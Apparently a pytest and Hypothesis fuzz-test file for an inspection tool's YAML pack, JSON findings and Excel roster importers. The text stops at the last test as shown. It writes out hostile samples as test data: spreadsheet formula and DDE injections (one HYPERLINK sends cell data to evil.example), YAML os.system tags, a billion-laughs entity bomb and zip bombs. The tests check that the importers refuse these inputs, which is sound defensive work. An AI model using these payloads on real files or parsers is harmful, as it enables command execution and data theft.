"""Hostile input, fuzzed: pack files, findings JSON, roster and checklist workbooks.

Whatever arrives, the answer is a clear error (an :class:`AnjianError` with its catalogue
key, or a pack-file problem at ``file:line``) that names the file, never a traceback or a
hang, and nothing is stored half-way. Hypothesis runs a fixed, derandomised budget in CI
(profile ``fuzz-ci``); ``ANJIAN_FUZZ_EXAMPLES=5000`` runs that many random examples per
property (profile ``fuzz-long``; see the README's Fuzzing section). The huge cases (a million
rows, a zip bomb) are single deterministic tests.
"""

from __future__ import annotations

import datetime as dt
import itertools
import json
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from core.excel.cells import MAX_COLUMNS, MAX_PARTS, MAX_RATIO, MAX_ROWS, MAX_UNCOMPRESSED
from core.excel.checklist import MAX_PACK_ROWS, export_pack, import_pack, sheet_columns
from core.excel.roster import MAX_FIELD_CHARS
from core.i18n import AnjianError
from core.pack.loader import (
    MAX_PACK_BYTES,
    MAX_YAML_DEPTH,
    MAX_YAML_NODES,
    PackFileError,
    load_pack,
    parse_pack,
)
from core.plugins.catalogue import Catalogue
from core.services import roster
from core.services.context import Context, open_context
from core.services.packs import MAX_INPUT_BYTES, evaluate_files, evaluate_raw, read_json
from core.services.roster import import_enterprises

from .conftest import ROOT
from .fuzz_helpers import (
    RANDOM_WORKBOOK_BYTES,
    SHEET_HEAD,
    SHEET_TAIL,
    Raw,
    billion_laughs,
    damaged,
    deflate_bomb,
    enterprises,
    row_xml,
    table,
    workbook,
    write_xlsx,
)
from .workflow_helpers import new_code

# --- the example budget ------------------------------------------------------------------

_LONG = int(os.environ.get("ANJIAN_FUZZ_EXAMPLES", "0") or "0")
_QUIET = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
          HealthCheck.data_too_large, HealthCheck.filter_too_much]
settings.register_profile("fuzz-ci", derandomize=True, deadline=None, database=None,
                          suppress_health_check=_QUIET, print_blob=True)
settings.register_profile("fuzz-long", max_examples=max(_LONG, 1), deadline=None,
                          suppress_health_check=_QUIET, print_blob=True)
_PROFILE = settings.get_profile("fuzz-long" if _LONG else "fuzz-ci")


def budget(ci_examples: int) -> settings:
    """The fixed CI budget of one property (sized to its cost), or the developer's long run."""
    return settings(_PROFILE, max_examples=_LONG or ci_examples)


ANJIAN = Path(sys.executable).with_name("anjian")
FIRE_YAML = ROOT / "plugins" / "fire" / "gb35181_2017.yaml"
HEADER = ["统一社会信用代码", "名称", "区县", "行业", "地址"]


def render_both(err: AnjianError) -> str:
    """The message in both languages (a parameter the catalogue does not know would fail)."""
    zh = err.render("zh")
    en = err.render("en")
    assert zh and en and "Traceback" not in en
    return en


# --- strategies ---------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"点此")', "+1",
            "-1", "@SUM(A1:A9)", "=1+1", "\t=1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
_xml_text = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=60)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
    | _text,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(_text, inner, max_size=5),
    max_leaves=25)
cell_values = st.one_of(
    st.none(), st.booleans(), st.integers(-10**15, 10**15),
    st.floats(allow_nan=False, allow_infinity=False), _xml_text, st.sampled_from(FORMULAS),
    st.datetimes(dt.datetime(1900, 3, 1), dt.datetime(9999, 1, 1)).map(
        lambda d: d.replace(microsecond=0)),
    st.text("ab名单 ", min_size=MAX_FIELD_CHARS + 1, max_size=MAX_FIELD_CHARS + 50),
    st.sampled_from([
        Raw('<c r="A1" t="x"><v>1</v></c>'),          # a type no reader knows
        Raw('<c r="A1"><v>abc</v></c>'),              # a number that is not one
        Raw('<c r="A1" t="b"><v>maybe</v></c>'),      # a boolean that is not one
        Raw('<c r="A1" t="d"><v>2020-13-45</v></c>'),  # a date that does not exist
        Raw('<c r="A1" t="s"><v>99999</v></c>'),      # a shared string that is not there
        Raw('<c r="ZZZZZZ1"><v>1</v></c>'),           # a column beyond any sheet
        Raw('<c r="XFD1"><v>1</v></c>'),              # the last column there is
        Raw('<c r="A1" t="e"><v>#REF!</v></c>'),      # an error value
        Raw('<c r="A1"><f>cmd|\' /C calc\'!A0</f></c>'),  # a formula, no cached value
        Raw('<c r="A1" t="str"><f>HYPERLINK("x")</f><v>点此</v></c>'),  # with one
        Raw('<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c>'),  # an undefined entity
        Raw('<c r="A1" t="inlineStr"><is><t>&#0;</t></is></c>'),  # a character XML forbids
        Raw("<c r=\"A1\"><v>1</v>"),                  # an element never closed
    ]))


# --- 1. pack files ------------------------------------------------------------------------


def assert_pack_problems(exc: PackFileError, name: str, text: str) -> None:
    """Every problem names the file and a line that exists, and says something in both
    languages (a parameter the catalogue does not know would fail)."""
    assert exc.problems
    last = text.count("\n") + 1
    for problem in exc.problems:
        assert problem.file == name
        assert 1 <= problem.line <= last, (problem, last)
        assert problem.message.render("en").strip() and problem.message.render("zh").strip()
    assert str(exc).startswith(f"{name}:")
    assert exc.render("zh").startswith(f"{name}:")


def parse_or_problem(text: str, name: str = "fuzz.yaml") -> None:
    try:
        parse_pack(text, name)
    except PackFileError as exc:
        assert_pack_problems(exc, name, text)


@budget(150)
@given(st.text(max_size=400))
def test_any_text_as_a_pack_gives_a_pack_or_problems(text: str) -> None:
    parse_or_problem(text)


@budget(120)
@given(st.lists(st.sampled_from(
    ["[", "]", "{", "}", "- ", ": ", "a", "\n", "  ", "&x ", "*x", "!!python/name:os.system ",
     "<<: ", "? ", "'", '"', "#", "!x ", ",", "9" * 50, "2020-13-45", "\\ud800"]), max_size=80))
def test_yaml_syntax_soup_gives_problems(tokens: list[str]) -> None:
    parse_or_problem("".join(tokens))


@budget(60)
@given(st.binary(max_size=600))
def test_any_bytes_as_a_pack_file(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "bytes.yaml"
    path.write_bytes(data)
    try:
        load_pack(path)
    except PackFileError as exc:
        assert all(p.file == str(path) and p.line >= 1 for p in exc.problems)


HOSTILE_YAML = [
    "!!python/object/apply:os.system ['echo PWNED']", "!!python/name:os.system", "!!binary aGk=",
    "!!set {a, b}", "!foo bar", "&a [*a]", "*nowhere", "[" * 300, "{a: " * 100, "2020-02-30",
    "9" * 5000, "!!int x", "!!bool maybe", "!!timestamp never", "!!float x", "{[1]: 2}",
    "\t", "\u0085", "\ufeff", "'unclosed", "- - - - - - -", "<<: {id: x}"]


@budget(60)
@given(st.data())
def test_a_real_pack_damaged_anywhere(data: st.DataObject) -> None:
    text = FIRE_YAML.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    how = data.draw(st.sampled_from(["cut", "insert", "replace"]))
    at = data.draw(st.integers(0, len(text)))
    if how == "cut":
        damaged = text[:at]
    else:
        snippet = data.draw(st.sampled_from(HOSTILE_YAML) | _text)
        if how == "insert":
            damaged = text[:at] + snippet + text[at:]
        else:
            line = data.draw(st.integers(0, len(lines) - 1))
            indent = lines[line][: len(lines[line]) - len(lines[line].lstrip())]
            key = lines[line].strip().split(":")[0].lstrip("- ") or "x"
            lines[line] = f"{indent}{key}: {snippet}\n"
            damaged = "".join(lines)
    parse_or_problem(damaged)


def _paths(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, (*path, key))
    elif isinstance(node, list):
        for n, value in enumerate(node):
            yield from _paths(value, (*path, n))


_FIRE_DATA = yaml.safe_load(FIRE_YAML.read_text(encoding="utf-8"))
_DUMPER = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
_FIRE_PATHS = [p for p in _paths(_FIRE_DATA) if p]


@budget(50)
@given(st.sampled_from(_FIRE_PATHS), json_values | st.sampled_from(FORMULAS))
def test_a_real_pack_with_a_wrong_value_anywhere(path: tuple[Any, ...], value: Any) -> None:
    data = json.loads(json.dumps(_FIRE_DATA, default=str))
    node = data
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    parse_or_problem(yaml.dump(data, Dumper=_DUMPER, allow_unicode=True, sort_keys=False))


@pytest.mark.parametrize("shape", ["flow list", "flow map", "block list", "block map"])
def test_deeply_nested_yaml_is_refused_not_a_crash(shape: str) -> None:
    # 10,000 levels: enough to overflow the C parser's stack (a segmentation fault) if
    # it were ever handed to it.
    text = {"flow list": "[" * 10_000 + "]" * 10_000,
            "flow map": "{a: " * 10_000 + "1" + "}" * 10_000,
            "block list": "- " * 10_000 + "x\n",
            "block map": "".join("  " * n + "a:\n" for n in range(300)) + "  " * 300 + "b\n",
            }[shape]
    with pytest.raises(PackFileError) as info:
        parse_pack(text, "deep.yaml")
    line = MAX_YAML_DEPTH + 1 if shape == "block map" else 1  # where the limit is passed
    assert str(info.value) == (
        f"deep.yaml:{line}: nested more than {MAX_YAML_DEPTH} levels deep (a pack needs about "
        "10); look for an unclosed '[' or '{' or a runaway indentation")


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system", "!!python/object/new:os.system",
                                 "!!python/name:os.system", "!!python/module:os"])
def test_python_tags_never_run(tmp_path: Path, tag: str) -> None:
    marker = tmp_path / "ran"
    text = f"id: x\nversion: {tag} ['touch {marker}']\n"
    with pytest.raises(PackFileError) as info:
        parse_pack(text, "tags.yaml")
    assert not marker.exists()
    message = str(info.value)
    assert message.startswith("tags.yaml:2: YAML: tag '!!python/")
    assert "is not allowed" in message and "remove the tag" in message


@pytest.mark.parametrize(("text", "line", "message"), [
    ("id: x\nnote: !!binary aGk=\n", 2, "tag '!!binary' is not allowed"),
    ("id: x\nnote: !!set {a, b}\n", 2, "tag '!!set' is not allowed"),
    ("id: x\nnote: !local thing\n", 2, "tag '!local' is not allowed"),
    ("base: &b {id: x}\n<<: *b\n", 2, "merge keys ('<<') are not supported"),
    ("id: x\n? [a, b]\n: 1\n", 2, "a key must be plain text"),
    ("id: x\nversion: " + "9" * 5000 + "\n", 2, "is not a valid integer (too many digits)"),
    ("id: x\neffective: 2020-13-45\n", 2, "'2020-13-45' is not a valid date"),
    ("id: x\neffective: !!timestamp never\n", 2, "'never' is not a valid date"),
    ("id: x\nflag: !!bool maybe\n", 2, "'maybe' is not a valid true/false"),
    ("id: x\nid: y\n", 2, "duplicate key 'id'"),
])
def test_yaml_that_builds_nothing_plain_is_refused_at_its_line(text: str, line: int,
                                                              message: str) -> None:
    with pytest.raises(PackFileError) as info:
        parse_pack(text, "p.yaml")
    assert str(info.value).startswith(f"p.yaml:{line}: YAML: ")
    assert message in str(info.value)


@pytest.mark.parametrize("text", ["id: x\nloop: &a [1, *a]\n", "id: x\nloop: &a {b: *a}\n"])
def test_an_alias_inside_what_it_names_is_refused(text: str) -> None:
    # a cycle: it built a list containing itself, and reporting its problems recursed
    # without end (found by this file's fuzzing)
    with pytest.raises(PackFileError) as info:
        parse_pack(text, "loop.yaml")
    assert str(info.value) == ("loop.yaml:2: alias *a is inside the list or mapping it names "
                               "(a loop without end); write the values out")


def test_billion_laughs_is_refused_quickly() -> None:
    started = time.perf_counter()
    with pytest.raises(PackFileError) as info:
        parse_pack(billion_laughs(), "laughs.yaml")
    assert f"more than {MAX_YAML_NODES} values once aliases" in str(info.value)
    assert time.perf_counter() - started < 10  # expanded, it is 387 million strings


def test_thousands_of_bad_references_are_reported_in_linear_time() -> None:
    data = json.loads(json.dumps(_FIRE_DATA, default=str))
    rule = data["rules"][0]
    data["rules"] = [{**rule, "id": f"R-{n}", "items": [f"NOPE-{n}"]} for n in range(3000)]
    text = yaml.dump(data, Dumper=_DUMPER, allow_unicode=True, sort_keys=False)
    started = time.perf_counter()
    with pytest.raises(PackFileError) as info:
        parse_pack(text, "refs.yaml")
    assert time.perf_counter() - started < 30  # was quadratic: minutes
    problems = info.value.problems
    assert len(problems) == 201 and str(problems[-1].message).startswith(
        "… and 2800 more problems")
    assert problems[-1].message.render("zh").startswith("……另有 2800 个问题")
    first = problems[0]
    assert str(first.message) == "rule R-0: unknown item 'NOPE-0'"
    assert text.splitlines()[first.line - 1].strip() == "- NOPE-0"


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_an_endless_pack_file_is_refused() -> None:
    with pytest.raises(PackFileError, match=f"over {MAX_PACK_BYTES} bytes"):
        load_pack("/dev/zero")


# --- 2. findings JSON ---------------------------------------------------------------------

FINDINGS_KEYS = {"findings.not_list", "findings.not_object", "findings.bad_field",
                 "findings.unknown_item", "findings.duplicate", "findings.bad_status",
                 "findings.gated", "findings.unknown_check", "findings.no_measure",
                 "findings.needs_design", "findings.conflict", "site.not_object",
                 "site.unknown_key", "site.not_list", "site.unknown", "site.other_mixed",
                 "io.json", "io.read"}
PACK_SETS = [["gb35181-2017"], ["gb35181-2017", "coal-2026"], ["it-2023", "it-2023-dust"]]


def evaluate_or_refuse(catalogue: Catalogue, packs: list[str], findings: Path,
                       site: Path | None) -> None:
    try:
        result = evaluate_files(catalogue, packs, findings, site)
    except AnjianError as err:
        assert err.key in FINDINGS_KEYS, err.key
        message = render_both(err)
        assert str(findings) in message or (site is not None and str(site) in message)
    else:
        assert len(result.determinations) == len(packs)


@budget(80)
@given(json_values, st.none() | json_values, st.sampled_from(PACK_SETS))
def test_any_json_as_findings_and_site(catalogue: Catalogue, tmp_path: Path, findings: Any,
                                       site: Any, packs: list[str]) -> None:
    f = tmp_path / "findings.json"
    f.write_text(json.dumps(findings, ensure_ascii=False), encoding="utf-8")
    s = None
    if site is not None:
        s = tmp_path / "site.json"
        s.write_text(json.dumps(site, ensure_ascii=False), encoding="utf-8")
    evaluate_or_refuse(catalogue, packs, f, s)


def _item_ids(catalogue: Catalogue, packs: list[str]) -> list[str]:
    return [i.id for p in packs if (e := catalogue.get(p)) for i in e.pack.items()]


@budget(80)
@given(st.data(), st.sampled_from(PACK_SETS))
def test_findings_that_look_right_with_hostile_values(catalogue: Catalogue, tmp_path: Path,
                                                      data: st.DataObject,
                                                      packs: list[str]) -> None:
    items = _item_ids(catalogue, packs)
    anything = json_values | st.sampled_from([10**400, -(10**309), 1e308, 1e-320, "", "x" * 5000])
    status = st.sampled_from(["compliant", "noncompliant", "not_applicable", "COMPLIANT",
                              None, 1, True, ["noncompliant"]])
    entry = st.fixed_dictionaries(
        {"item": st.sampled_from(items) | _text},
        optional={"status": status, "value": anything, "design": anything, "note": anything,
                  "corrected_on_site": anything,
                  "checks": st.dictionaries(_text, status | anything, max_size=3) | anything,
                  "extra": anything})
    findings = data.draw(st.lists(entry, max_size=8))
    vocabulary = [v for p in packs if (e := catalogue.get(p))
                  for vs in e.pack.site_vocabulary().values() for v in vs]
    site = data.draw(st.dictionaries(
        st.sampled_from(["categories", "tags", "exclusions", "other"]),
        st.lists(st.sampled_from(vocabulary or ["x"]) | json_values, max_size=3) | json_values,
        max_size=3))
    f = tmp_path / "findings.json"
    f.write_text(json.dumps(findings, ensure_ascii=False), encoding="utf-8")
    s = tmp_path / "site.json"
    s.write_text(json.dumps(site), encoding="utf-8")
    evaluate_or_refuse(catalogue, packs, f, s)


@budget(100)
@given(st.binary(max_size=300))
def test_any_bytes_as_json(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "raw.json"
    path.write_bytes(data)
    try:
        read_json(path)
    except AnjianError as err:
        assert err.key in {"io.json", "io.read"}
        assert render_both(err).startswith(str(path))


@pytest.mark.parametrize(("body", "line", "message", "zh"), [
    ('[{"item": "FIRE-2017-D-6.1",\n "value": ' + "9" * 5000 + "}]", 2,
     "the number is out of range", "数字超出范围"),
    ('[{"item": "FIRE-2017-D-6.1", "value": 1e999}]', 1, "1e999: the number is out of range",
     "1e999: 数字超出范围"),
    ('[{"item": "FIRE-2017-D-6.1", "value": NaN}]', 1, "NaN: not a JSON number",
     "NaN: 不是 JSON 数字"),
    ('[\n{"item": "FIRE-2017-D-6.1", "value": -Infinity}]', 2, "not a JSON number",
     "不是 JSON 数字"),
    ("[" * 100_000 + "]" * 100_000, 1, "nested too deeply", "嵌套过深"),
    ('[{"item": "\\ud800"}]', 1, "\\ud800: half of a UTF-16 surrogate pair",
     "\\ud800: 只是 UTF-16 代理对的一半"),
    ('[{"item": "FIRE", "note": "ok\\ud83d\\ude00"},\n{"note": "\\udc00"}]', 2,
     "\\udc00: half of a UTF-16 surrogate pair", "\\udc00: 只是 UTF-16 代理对的一半"),
    (b'[{"item": "\xff"}]', 1, "not UTF-8 text", "不是 UTF-8 编码的文本（无效的起始字节）"),
    ('[{"item": "FIRE-2017-D-6.1",}]', 1, "Expecting property name enclosed in double quotes",
     "此处应为用双引号括起的字段名（多了逗号？）"),
])
def test_json_that_is_not_data_is_refused_at_its_line(catalogue: Catalogue, tmp_path: Path,
                                                      body: str | bytes, line: int,
                                                      message: str, zh: str) -> None:
    path = tmp_path / "findings.json"
    path.write_bytes(body if isinstance(body, bytes) else body.encode())
    with pytest.raises(AnjianError) as info:
        evaluate_files(catalogue, ["gb35181-2017"], path)
    assert info.value.key == "io.json"
    assert render_both(info.value).startswith(f"{path}:{line}: malformed JSON: ")
    assert message in str(info.value)
    assert info.value.render("zh").startswith(f"{path}:{line}: JSON 格式错误: ")
    assert zh in info.value.render("zh")


def test_a_number_no_float_holds_is_refused_from_any_caller(catalogue: Catalogue) -> None:
    # a golden case's JSON is read without read_json's checks; 10**400 used to escape as an
    # OverflowError from `anjian packs check`
    with pytest.raises(AnjianError) as info:
        evaluate_raw(catalogue, ["gb35181-2017"], [{"item": "FIRE-2017-D-6.1", "status":
                     "noncompliant", "checks": {"x": {"value": -(10**400)}}}], {},
                     findings_name="case.json")
    assert str(info.value) == ("case.json: item FIRE-2017-D-6.1: a number is out of range "
                               "(over 308 digits)")
    assert info.value.render("zh") == ("case.json: 检查项 FIRE-2017-D-6.1: 有一个数字超出范围"
                                       "（超过 308 位）")


def test_a_byte_order_mark_is_no_error(catalogue: Catalogue, tmp_path: Path) -> None:
    path = tmp_path / "findings.json"
    path.write_bytes(b'\xef\xbb\xbf[{"item": "FIRE-2017-D-6.1", "status": "compliant"}]')
    assert evaluate_files(catalogue, ["gb35181-2017"], path).verdict == "incomplete"


def test_an_unhashable_site_value_with_two_packs(catalogue: Catalogue, tmp_path: Path) -> None:
    findings, site = tmp_path / "f.json", tmp_path / "s.json"
    findings.write_text("[]")
    site.write_text('{"tags": [["underground"]]}')
    with pytest.raises(AnjianError) as info:
        evaluate_files(catalogue, ["gb35181-2017", "coal-2026"], findings, site)
    assert info.value.key == "site.not_list"
    assert str(info.value) == f"{site}: 'tags' must be a list of strings"


def test_huge_strings_are_data_within_the_limits(catalogue: Catalogue, tmp_path: Path) -> None:
    findings = tmp_path / "findings.json"
    note = "现场" * 500_000  # a megabyte of note is odd, but it is text
    findings.write_text(json.dumps([{"item": "FIRE-2017-D-6.1", "status": "noncompliant",
                                     "note": note}], ensure_ascii=False), encoding="utf-8")
    result = evaluate_files(catalogue, ["gb35181-2017"], findings)
    assert result.determinations[0].major_items == ("FIRE-2017-D-6.1",)
    data = json.loads(json.dumps(_FIRE_DATA, default=str))
    data["sections"][0]["items"][0]["text_zh"] = "长" * (1 << 20)
    pack = parse_pack(yaml.dump(data, Dumper=_DUMPER, allow_unicode=True), "big.yaml")
    assert len(pack.items()[0].text_zh) == 1 << 20


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_an_endless_findings_file_is_refused(catalogue: Catalogue) -> None:
    with pytest.raises(AnjianError) as info:
        evaluate_files(catalogue, ["gb35181-2017"], "/dev/zero")
    assert str(info.value) == f"/dev/zero: cannot read: over the {MAX_INPUT_BYTES}-byte limit"
    assert info.value.render("zh") == f"/dev/zero: 无法读取: 超过 {MAX_INPUT_BYTES} 字节的上限"


# --- 3. roster workbooks ------------------------------------------------------------------


@pytest.fixture(scope="module")
def roster_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Context, Path]]:
    """A real SQLite file with one enterprise registered: every refused import must leave
    its enterprise table exactly as it is."""
    db = tmp_path_factory.mktemp("roster") / "roster.db"
    ctx = open_context(f"sqlite:///{db}", actor="模糊测试", today=dt.date(2026, 3, 2))
    roster.add_enterprise(ctx, uscc=new_code(), name="已登记单位", sector="fire",
                            district="历下区")
    yield ctx, db
    ctx.store.close()


ROSTER_KEYS = {"excel.not_workbook", "excel.encrypted", "excel.too_large", "excel.zip_bomb",
               "excel.too_many_parts", "excel.too_many_rows", "excel.damaged",
               "excel.unreadable", "excel.no_worksheet", "excel.no_header", "excel.bad_rows"}


def refused(ctx: Context, db: Path, path: Path, *keys: str) -> AnjianError:
    """Import ``path``; it must be refused with one of ``keys`` naming the file, and leave
    the enterprise table as it was."""
    before = table(db)
    with pytest.raises(AnjianError) as info:
        import_enterprises(ctx, path)
    assert info.value.key in (set(keys) or ROSTER_KEYS), info.value.key
    assert render_both(info.value).startswith(str(path))
    assert table(db) == before
    return info.value


def bad_rows(err: AnjianError) -> list[str]:
    assert err.key == "excel.bad_rows"
    return str(err.params["rows"].render("en")).splitlines()


@budget(40)
@given(st.lists(st.lists(cell_values, max_size=7), max_size=6))
def test_roster_with_hostile_cells(roster_db: tuple[Context, Path], tmp_path: Path,
                                   rows: list[list[Any]]) -> None:
    ctx, db = roster_db
    # the last row is always bad, so nothing may ever be stored
    body = [["单位名单"], HEADER, *rows, ["12345", "太短", "历下区", "fire"]]
    path = workbook(tmp_path / "hostile.xlsx", {"名单": body})
    err = refused(ctx, db, path)
    if err.key == "excel.bad_rows":
        for line in bad_rows(err):
            assert line.startswith("名单!") or line.startswith("… ")


def _real_roster(path: Path) -> Path:
    """A roster as openpyxl (like Excel) writes it: one good row and one bad one."""
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    ws.append(HEADER)
    ws.append([new_code(), "济南甲化工", "历下区", "chemicals", "路1号"])
    ws.append(["12345", "太短", "历下区", "fire", ""])
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def real_roster(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # a path, not the bytes: hypothesis prints its arguments, fixtures included
    return _real_roster(tmp_path_factory.mktemp("real") / "r.xlsx")


@budget(40)
@given(st.data())
def test_roster_cut_short_or_with_a_byte_changed(roster_db: tuple[Context, Path],
                                                 tmp_path: Path, real_roster: Path,
                                                 data: st.DataObject) -> None:
    ctx, db = roster_db
    path = tmp_path / "damaged.xlsx"
    path.write_bytes(damaged(real_roster.read_bytes(), data))
    refused(ctx, db, path)


@budget(40)
@given(RANDOM_WORKBOOK_BYTES)
def test_roster_of_random_bytes(roster_db: tuple[Context, Path], tmp_path: Path,
                                data: bytes) -> None:
    ctx, db = roster_db
    path = tmp_path / "random.xlsx"
    path.write_bytes(data)
    refused(ctx, db, path, "excel.not_workbook", "excel.encrypted")


@budget(30)
@given(st.sampled_from(["xl/workbook.xml", "xl/worksheets/sheet1.xml",
                        "xl/_rels/workbook.xml.rels", "[Content_Types].xml"]),
       st.sampled_from(["", "<", "<x/>", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
                        + "lol" * 10 + '">' + "".join(
                            f'<!ENTITY a{n} "' + f"&a{n - 1 if n > 1 else ''};" * 10 + '">'
                            for n in range(1, 9)) + "]><x>&a8;</x>"]) | _xml_text)
def test_roster_with_a_part_replaced(roster_db: tuple[Context, Path], tmp_path: Path,
                                     real_roster: Path, part: str, xml: str) -> None:
    ctx, db = roster_db
    path = tmp_path / "parts.xlsx"
    with zipfile.ZipFile(real_roster) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, xml if info.filename == part else src.read(info))
    refused(ctx, db, path)


def test_a_million_rows_are_refused_before_they_are_read(roster_db: tuple[Context, Path],
                                                         tmp_path: Path) -> None:
    ctx, db = roster_db
    rows = MAX_ROWS + 1

    def body() -> Iterator[bytes]:
        # written as XML: openpyxl would need minutes for this; a reader does too, hence
        # the count before reading
        yield SHEET_HEAD.format(dimension='<dimension ref="A1:A2"/>').encode()  # it lies
        yield row_xml(1, HEADER).encode()
        for start in range(2, rows + 1, 100_000):
            yield "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'
                          for n in range(start, min(start + 100_000, rows + 1))).encode()
        yield SHEET_TAIL.encode()

    path = write_xlsx(tmp_path / "million.xlsx", {"名单": body()})
    started = time.perf_counter()
    err = refused(ctx, db, path, "excel.too_many_rows")
    assert time.perf_counter() - started < 15  # counted, not parsed
    assert str(err) == (f"{path}: more than {MAX_ROWS} rows; split it and import the parts")


def test_a_jump_to_row_two_million_is_refused(roster_db: tuple[Context, Path],
                                              tmp_path: Path) -> None:
    ctx, db = roster_db
    xml = (SHEET_HEAD.format(dimension="") + '<row r="1"><c r="A1"><v>1</v></c></row>'
           '<row r="2000000"><c r="A2000000"><v>1</v></c></row>' + SHEET_TAIL)
    path = write_xlsx(tmp_path / "jump.xlsx", {"名单": xml.encode()})
    started = time.perf_counter()
    refused(ctx, db, path, "excel.too_many_rows")
    assert time.perf_counter() - started < 15


def test_a_dimension_that_lies_cuts_no_row_off(tmp_path: Path) -> None:
    # Some writers declare the used range as A1 whatever it holds; the importer reads every
    # row anyway (it used to import the header row only, silently).
    db = tmp_path / "lie.db"
    ctx = open_context(f"sqlite:///{db}", actor="模糊测试")
    try:
        codes = [new_code() for _ in range(3)]
        path = workbook(tmp_path / "lie.xlsx", {"名单": [
            HEADER, *[[c, f"单位{n}", "历下区", "fire"] for n, c in enumerate(codes)]]},
            dimension="A1")
        assert import_enterprises(ctx, path).added == 3
        assert sorted(enterprises(db)) == sorted(codes)
    finally:
        ctx.store.close()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(roster_db: tuple[Context, Path],
                                                     tmp_path: Path) -> None:
    ctx, db = roster_db
    # 2 GiB of sheet in 2 MB. The declared sizes refuse it; had anything unpacked it, the
    # error would be another (and would take minutes).
    bomb = deflate_bomb(tmp_path / "bomb.xlsx", 2 << 30)
    with zipfile.ZipFile(bomb) as z:
        size = sum(i.file_size for i in z.infolist())
    err = refused(ctx, db, bomb, "excel.too_large")
    assert str(err) == (f"{bomb}: {size} bytes unpacked, over the {MAX_UNCOMPRESSED}-byte "
                        "limit; split it and import the parts")
    # Under the size limit, the ratio gives it away.
    small = deflate_bomb(tmp_path / "small.xlsx", 150 << 20)
    err = refused(ctx, db, small, "excel.zip_bomb")
    assert "part xl/worksheets/sheet1.xml would unpack from" in str(err)
    assert f"to {150 << 20} bytes (more than {MAX_RATIO}:1, a zip bomb?)" in str(err)


def test_a_zip_of_too_many_parts_is_refused(roster_db: tuple[Context, Path],
                                            tmp_path: Path, real_roster: Path) -> None:
    ctx, db = roster_db
    path = tmp_path / "parts.xlsx"
    path.write_bytes(real_roster.read_bytes())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        for n in range(MAX_PARTS):
            z.writestr(f"x/{n}", b"")
    err = refused(ctx, db, path, "excel.too_many_parts")
    assert f"over the limit of {MAX_PARTS}" in str(err)


def test_huge_cells_wrong_types_and_formulas_in_a_roster(roster_db: tuple[Context, Path],
                                                         tmp_path: Path) -> None:
    ctx, db = roster_db
    path = workbook(tmp_path / "cells.xlsx", {"名单": [
        HEADER,
        [new_code(), "名" * (1 << 20), "历下区", "fire"],
        [new_code(), dt.datetime(2020, 1, 1), True, "fire"],
        [913701000000000001, "数字代码", "历下区", "fire"],
        [new_code(), "好", "历下区", "fire", "x" * MAX_FIELD_CHARS],  # at the limit: fine
        [new_code(), Raw('<c r="B6"><f>cmd|\' /C calc\'!A0</f></c>'), "历下区", "fire"],
    ]})
    rows = bad_rows(refused(ctx, db, path, "excel.bad_rows"))
    assert rows == [
        f"名单!2: name: {1 << 20} characters, over the limit of {MAX_FIELD_CHARS}; "
        "is a column shifted?",
        "名单!3: name: a date or time (2020-01-01 00:00:00), where text belongs; "
        "is a column shifted?",
        "名单!3: district: TRUE/FALSE, where text belongs; is a column shifted?",
        "名单!4: uscc: check character is '1' but should be 'R' (a typing error?)",
        "名单!6: name: required",  # a formula with no value computed is no name
    ]


def test_formula_text_is_stored_as_text(tmp_path: Path) -> None:
    db = tmp_path / "formula.db"
    ctx = open_context(f"sqlite:///{db}", actor="模糊测试")
    try:
        codes = [new_code() for _ in FORMULAS]
        path = workbook(tmp_path / "formula.xlsx", {"名单": [
            HEADER, *[[c, f, "历下区", "fire", f] for c, f in zip(codes, FORMULAS, strict=True)],
            [new_code(), Raw('<c r="B99" t="str"><f>HYPERLINK("http://x")</f><v>点此</v></c>'),
             "历下区", "fire"]]})
        assert import_enterprises(ctx, path).added == len(FORMULAS) + 1
        stored = enterprises(db)
        for code, formula in zip(codes, FORMULAS, strict=True):
            assert stored[code] == formula.strip()  # as typed (trimmed): never evaluated
        assert "点此" in stored.values()  # of a formula, only the value it was saved with
    finally:
        ctx.store.close()


def test_a_folder_a_device_and_an_old_binary_workbook(roster_db: tuple[Context, Path],
                                                      tmp_path: Path) -> None:
    ctx, db = roster_db
    refused(ctx, db, tmp_path, "excel.not_workbook")
    if Path("/dev/zero").exists():
        refused(ctx, db, Path("/dev/zero"), "excel.not_workbook")
    old = tmp_path / "old.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000)
    refused(ctx, db, old, "excel.encrypted")
    wide = workbook(tmp_path / "wide.xlsx", {"名单": [
        [None] * (MAX_COLUMNS + 1) + HEADER]})  # the header past the columns that are read
